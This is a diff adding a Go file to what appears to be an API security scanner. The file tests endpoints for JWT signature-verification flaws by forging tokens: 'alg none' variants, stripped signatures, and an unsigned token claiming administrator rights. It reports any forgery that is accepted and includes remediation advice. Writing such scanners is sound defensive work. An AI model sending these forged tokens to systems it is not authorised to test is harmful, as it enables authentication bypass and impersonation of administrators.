@@ -0,0 +1,166 @@
+package api
+
+import (
+	"context"
+	"encoding/base64"
+	"encoding/json"
+	"fmt"
+	"net/http"
+	"regexp"
+	"strings"
+	"time"
+
+	"github.com/buemura/hunter/internal/scanner"
+	"github.com/buemura/hunter/pkg/types"
+)
+
+// jwtPattern matches a JSON Web Token: a base64url header and payload, both
+// JSON objects, and a signature that may be empty.
+var jwtPattern = regexp.MustCompile(`eyJ[A-Za-z0-9_-]+\.eyJ[A-Za-z0-9_-]*\.[A-Za-z0-9_-]*`)
+
+// capturedToken is a JWT the scan authenticates with, and the request header
+// it is sent in.
+type capturedToken struct {
+	// Source describes where the token came from, for findings.
+	Source string
+	Header string
+	// Value is the header's full value, e.g. "Bearer <token>" or a cookie
+	// list containing the token.
+	Value string
+	Token string
+}
+
+// jwtVariant is a forged token sent in place of a captured one.
+type jwtVariant struct {
+	Name  string
+	Token string
+}
+
+// capturedTokens returns the JWTs in the credentials the scan authenticates
+// with and in the headers of its endpoints. When there are none, it returns
+// an unsigned token claiming to be an administrator, sent as a bearer token.
+func capturedTokens(baseURL string, endpoints []types.Endpoint, opts scanner.Options) []capturedToken {
+	var tokens []capturedToken
+	seen := map[string]bool{}
+	collect := func(source string, header http.Header) {
+		for name, values := range header {
+			for _, value := range values {
+				for _, token := range jwtPattern.FindAllString(value, -1) {
+					if !seen[token] {
+						seen[token] = true
+						tokens = append(tokens, capturedToken{Source: source, Header: name, Value: value, Token: token})
+					}
+				}
+			}
+		}
+	}
+
+	if opts.Authenticate != nil {
+		if req, err := http.NewRequest(http.MethodGet, baseURL, nil); err == nil {
+			opts.Authenticate(req)
+			collect("credential", req.Header)
+		}
+	}
+	for _, ep := range endpoints {
+		header := http.Header{}
+		for name, value := range ep.Headers {
+			header.Set(name, value)
+		}
+		collect("imported request", header)
+	}
+
+	if len(tokens) == 0 {
+		claims := fmt.Sprintf(`{"sub":"admin","role":"admin","admin":true,"exp":%d}`, time.Now().Add(time.Hour).Unix())
+		token := jwtSegment(`{"alg":"HS256","typ":"JWT"}`) + "." + jwtSegment(claims) + "."
+		tokens = append(tokens, capturedToken{Source: "crafted", Header: "Authorization", Value: "Bearer " + token, Token: token})
+	}
+	return tokens
+}
+
+// jwtVariants returns forgeries of token, most likely to be accepted first:
+// its claims under an alg "none" header in the spellings libraries have
+// accepted, then, when it is signed, the token with its signature emptied
+// and removed.
+func jwtVariants(token string) []jwtVariant {
+	parts := strings.Split(token, ".")
+	if len(parts) != 3 {
+		return nil
+	}
+	header := map[string]interface{}{}
+	if raw, err := base64.RawURLEncoding.DecodeString(parts[0]); err != nil || json.Unmarshal(raw, &header) != nil {
+		header = map[string]interface{}{"typ": "JWT"}
+	}
+
+	var variants []jwtVariant
+	for _, alg := range []string{"none", "None", "NONE", "nOnE"} {
+		header["alg"] = alg
+		encoded, _ := json.Marshal(header)
+		variants = append(variants, jwtVariant{
+			Name:  fmt.Sprintf("alg %q", alg),
+			Token: jwtSegment(string(encoded)) + "." + parts[1] + ".",
+		})
+	}
+	if parts[2] != "" {
+		variants = append(variants,
+			jwtVariant{Name: "signature stripped", Token: parts[0] + "." + parts[1] + "."},
+			jwtVariant{Name: "signature segment removed", Token: parts[0] + "." + parts[1]},
+		)
+	}
+	return variants
+}
+
+// jwtSegment base64url-encodes a JWT header or payload.
+func jwtSegment(s string) string {
+	return base64.RawURLEncoding.EncodeToString([]byte(s))
+}
+
+// testJWTBypass sends ep, when it rejects unauthenticated requests, with
+// forgeries of each captured token, and reports those it accepts: the API
+// does not verify the signatures of its tokens.
+func testJWTBypass(ctx context.Context, client *http.Client, ep types.Endpoint, tokens []capturedToken, limit int) []types.Finding {
+	if ep.Method == "" {
+		ep.Method = http.MethodGet
+	}
+
+	var findings []types.Finding
+	for _, captured := range tokens {
+		// An imported request may carry the token itself; the endpoint must
+		// reject the request without it.
+		probe := ep
+		probe.Headers = make(map[string]string, len(ep.Headers))
+		for name, value := range ep.Headers {
+			if !strings.EqualFold(name, captured.Header) {
+				probe.Headers[name] = value
+			}
+		}
+		status, _, err := sendProbe(ctx, client, probe, nil)
+		if err != nil || (status != http.StatusUnauthorized && status != http.StatusForbidden) {
+			continue
+		}
+
+		for _, variant := range scanner.Limit(jwtVariants(captured.Token), limit) {
+			value := strings.Replace(captured.Value, captured.Token, variant.Token, 1)
+			status, _, err := sendProbe(ctx, client, probe, http.Header{http.CanonicalHeaderKey(captured.Header): {value}})
+			if err != nil || !accepted(ep.Method, status) {
+				continue
+			}
+			findings = append(findings, types.Finding{
+				Title:       fmt.Sprintf("JWT accepted with %s: %s %s", variant.Name, ep.Method, ep.URL),
+				Description: fmt.Sprintf("The endpoint rejects unauthenticated requests but returned HTTP %d to a forged JWT (%s, from a %s token). Anyone can mint tokens with whatever claims they like.", status, variant.Name, captured.Source),
+				Severity:    types.SeverityCritical,
+				Evidence:    fmt.Sprintf("%s %s with %s: %s → %d", ep.Method, ep.URL, captured.Header, value, status),
+				Remediation: "Verify every JWT's signature with a fixed algorithm allow-list, and reject tokens whose alg is none or whose signature is missing.",
+				Metadata: map[string]string{
+					"endpoint":     ep.URL,
+					"method":       ep.Method,
+					"jwt_variant":  variant.Name,
+					"token_source": captured.Source,
+					"header":       captured.Header,
+					"status":       fmt.Sprintf("%d", status),
+					"check":        "jwt-bypass",
+				},
+			})
+		}
+	}
+	return findings
+}